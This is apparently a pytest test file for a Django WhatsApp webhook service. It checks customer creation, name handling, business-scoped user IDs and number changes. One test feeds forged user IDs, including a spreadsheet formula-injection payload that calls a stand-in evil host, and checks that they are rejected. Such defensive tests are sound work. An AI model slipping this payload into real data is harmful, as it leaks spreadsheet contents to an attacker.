"""The customer behind each message: created on the first one, one per person, kept up to date."""

import threading

import pytest
from django.db import connections
from django.test import Client

from agents import tables

from . import payloads
from .payloads import BSUID, NAME, PHONE, WA_ID, message, notification, post, text, value

pytestmark = pytest.mark.django_db


def deliver(client, *messages, contacts=None):
    response = post(client, notification(value(list(messages), contacts=contacts)))
    assert response.status_code == 200
    return response


def test_the_first_message_creates_the_customer_with_e164_phone_and_profile_name(client, t):
    deliver(client, text())
    customer = t.Customer.objects.get()
    assert (customer.phone, customer.name, customer.wa_user_id) == (PHONE, NAME, None)
    assert customer.unread_count == 1 and customer.last_message_at is not None


def test_without_a_profile_name_the_phone_is_the_name_until_a_profile_name_comes(client, t):
    deliver(client, text(wamid="wamid.1"), contacts=[payloads.contact(name=None)])
    assert t.Customer.objects.get().name == PHONE
    deliver(client, text(wamid="wamid.2"))
    assert t.Customer.objects.get().name == NAME


def test_a_name_the_agent_gave_is_never_overwritten(client, t):
    t.Customer.objects.create(name="Sheena (wholesale)", phone=PHONE)
    deliver(client, text())
    assert t.Customer.objects.get().name == "Sheena (wholesale)"
    assert t.Message.objects.get().customer.name == "Sheena (wholesale)"


def test_the_business_scoped_user_id_is_kept_beside_the_phone(client, t):
    deliver(client, text(from_user_id=BSUID), contacts=[payloads.contact(user_id=BSUID)])
    customer = t.Customer.objects.get()
    assert (customer.phone, customer.wa_user_id) == (PHONE, BSUID)


def test_a_known_customer_gets_their_business_scoped_user_id_when_it_first_appears(client, t):
    deliver(client, text(wamid="wamid.1"))
    deliver(client, text(wamid="wamid.2", from_user_id=BSUID), contacts=[payloads.contact(user_id=BSUID)])
    customer = t.Customer.objects.get()
    assert customer.wa_user_id == BSUID
    assert customer.messages.count() == 2


def test_a_username_adopter_without_phone_is_a_customer_known_by_their_bsuid(client, t):
    # Meta's example: wa_id and from are empty strings, only the BSUID identifies the user.
    contacts = [
        {
            "profile": {"name": NAME, "username": "@realsheenanelson", "country_code": "US"},
            "wa_id": "",
            "user_id": BSUID,
        }
    ]
    deliver(client, text(from_="", from_user_id=BSUID), contacts=contacts)

    customer = t.Customer.objects.get()
    assert (customer.phone, customer.wa_user_id, customer.name) == (BSUID, BSUID, NAME)

    # Later the same user writes with their number visible: same customer, the real number replaces the id.
    deliver(client, text(wamid="wamid.2", from_user_id=BSUID), contacts=[payloads.contact(user_id=BSUID)])
    customer = t.Customer.objects.get()
    assert (customer.phone, customer.wa_user_id) == (PHONE, BSUID)
    assert customer.messages.count() == 2


def test_a_username_is_the_name_when_there_is_no_profile_name(client, t):
    contacts = [{"profile": {"username": "@realsheenanelson"}, "wa_id": "", "user_id": BSUID}]
    deliver(client, text(from_="", from_user_id=BSUID), contacts=contacts)
    assert t.Customer.objects.get().name == "@realsheenanelson"
    deliver(
        client,
        text(wamid="wamid.2", from_="", from_user_id=BSUID),
        contacts=[{"profile": {"name": NAME, "username": "@realsheenanelson"}, "wa_id": "", "user_id": BSUID}],
    )
    assert t.Customer.objects.get().name == NAME


def test_a_message_naming_no_sender_fails_alone(client, t):
    from whatsapp.models import WebhookEvent

    deliver(client, text(wamid="wamid.ok"), text(wamid="wamid.nobody", from_=""), contacts=[payloads.contact(wa_id="")])
    assert list(t.Message.objects.values_list("wamid", flat=True)) == ["wamid.ok"]
    event = WebhookEvent.objects.get()
    assert event.state == WebhookEvent.State.FAILED
    assert "wamid.nobody" in event.error and "no sender" in event.error


def test_a_changed_number_moves_the_customer_and_shows_in_the_conversation(client, t):
    deliver(client, text())
    change = message(
        "system",
        {
            "body": "User Sheena Nelson changed from 16505551234 to 12195555358",
            "wa_id": "12195555358",
            "type": "user_changed_number",
        },
        wamid="wamid.HBgLMTk4MzU1NTE5NzQVAgASGAoxMTgyMDg2MjY3AA==",
        timestamp="1750269342",
    )
    # System messages come without a contacts array.
    post(client, notification({**value([change]), "contacts": None} | {}))
    deliver(client, text(wamid="wamid.after", from_="12195555358"), contacts=[payloads.contact(wa_id="12195555358")])

    customer = t.Customer.objects.get()
    assert customer.phone == "+12195555358"
    assert list(customer.messages.order_by("id").values_list("wa_type", "message")) == [
        ("text", "Does it come in another color?"),
        ("system", "User Sheena Nelson changed from 16505551234 to 12195555358"),
        ("text", "Does it come in another color?"),
    ]


def test_a_changed_number_already_held_by_another_customer_leaves_both_as_they_are(client, t):
    deliver(client, text())
    other = t.Customer.objects.create(name="Someone else", phone="+12195555358")
    change = message(
        "system",
        {"body": "User changed number", "wa_id": "12195555358", "type": "user_changed_number"},
        wamid="wamid.sys",
    )
    deliver(client, change, contacts=[])
    assert t.Customer.objects.get(phone=PHONE).messages.filter(wa_type="system").exists()
    assert t.Customer.objects.get(pk=other.pk).phone == "+12195555358"


def test_a_changed_business_scoped_user_id_is_followed(client, t):
    contacts = [payloads.contact(wa_id="", user_id=BSUID)]
    deliver(client, text(from_="", from_user_id=BSUID), contacts=contacts)
    new_id = "user.0000000000eb6441c8adb2eaee5b848e7dd174ddd302d7db62142f4722d574b6"
    change = message(
        "system",
        {
            "body": f"User Sheena Nelson changed from {BSUID} to {new_id}",
            "wa_id": "",
            "user_id": new_id,
            "type": "user_changed_user_id",
        },
        wamid="wamid.sys",
        from_="",
        from_user_id=BSUID,
    )
    deliver(client, change, contacts=[])
    customer = t.Customer.objects.get()
    assert (customer.phone, customer.wa_user_id) == (new_id, new_id)


def test_each_agent_gets_its_own_customer_for_the_same_person(client, connect_number):
    first = connect_number("111")
    second = connect_number("222", whatsapp_number="+15550100002")
    post(client, notification(value([text()], phone_number_id="111")))
    post(client, notification(value([text()], phone_number_id="222")))
    for agent in (first, second):
        assert tables.for_agent(agent).Customer.objects.get().phone == PHONE
        assert tables.for_agent(agent).Message.objects.count() == 1


@pytest.mark.postgres
def test_racing_deliveries_for_a_new_number_make_one_customer(committed_agent):
    t = tables.for_agent(committed_agent)
    start = threading.Barrier(8)
    statuses = []

    def deliver_one(n):
        try:
            start.wait()
            statuses.append(
                post(Client(), notification(value([text(f"hello {n}", wamid=f"wamid.race{n}")]))).status_code
            )
        finally:
            connections.close_all()

    threads = [threading.Thread(target=deliver_one, args=(n,)) for n in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    assert statuses == [200] * 8
    customer = t.Customer.objects.get()
    assert customer.phone == PHONE
    assert customer.messages.count() == 8
    assert customer.unread_count == 8


def test_a_sender_with_a_garbled_number_but_a_bsuid_is_known_by_the_bsuid(client, t):
    deliver(
        client,
        text(from_="not a number", from_user_id=BSUID),
        contacts=[payloads.contact(wa_id="call me", user_id=BSUID)],
    )
    customer = t.Customer.objects.get()
    assert (customer.phone, customer.wa_user_id, customer.name) == (BSUID, BSUID, NAME)


@pytest.mark.parametrize(
    "system",
    [
        {
            "body": "Sheena Nelson's security code changed",
            "type": "customer_identity_changed",
            "identity": "DF2lS5v2W6x=",
        },
        {
            "body": "User Sheena Nelson changed from 16505551234 to 16505551234",
            "wa_id": WA_ID,
            "type": "user_changed_number",
        },
        {"body": "User Sheena Nelson changed number", "wa_id": "", "type": "user_changed_number"},
        {"body": "User Sheena Nelson changed id", "type": "user_changed_user_id"},
    ],
)
def test_a_system_message_that_changes_no_identity_is_stored_and_changes_nothing(client, t, system):
    deliver(client, text(from_user_id=BSUID), contacts=[payloads.contact(user_id=BSUID)])
    deliver(client, message("system", system, wamid="wamid.sys"), contacts=[])
    customer = t.Customer.objects.get()
    assert (customer.phone, customer.wa_user_id) == (PHONE, BSUID)
    assert customer.messages.get(wa_type="system").message == system["body"]


@pytest.mark.parametrize("forged", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "US. 123", "@SUM(1)", 'a"b'])
def test_a_user_id_not_shaped_like_metas_is_not_taken_for_one(client, t, forged):
    contacts = [{"profile": {"name": NAME}, "wa_id": "", "user_id": forged}]
    deliver(client, text(from_="", from_user_id=forged), contacts=contacts)

    assert not t.Customer.objects.exists()


@pytest.mark.parametrize("real", ["US.13491208655302741918", "US.ENT.11815799212886844830", "BR.1502576394655843"])
def test_user_ids_as_meta_writes_them_are_kept(client, t, real):
    deliver(
        client, text(from_="", from_user_id=real), contacts=[{"profile": {"name": NAME}, "wa_id": "", "user_id": real}]
    )

    assert t.Customer.objects.get().wa_user_id == real
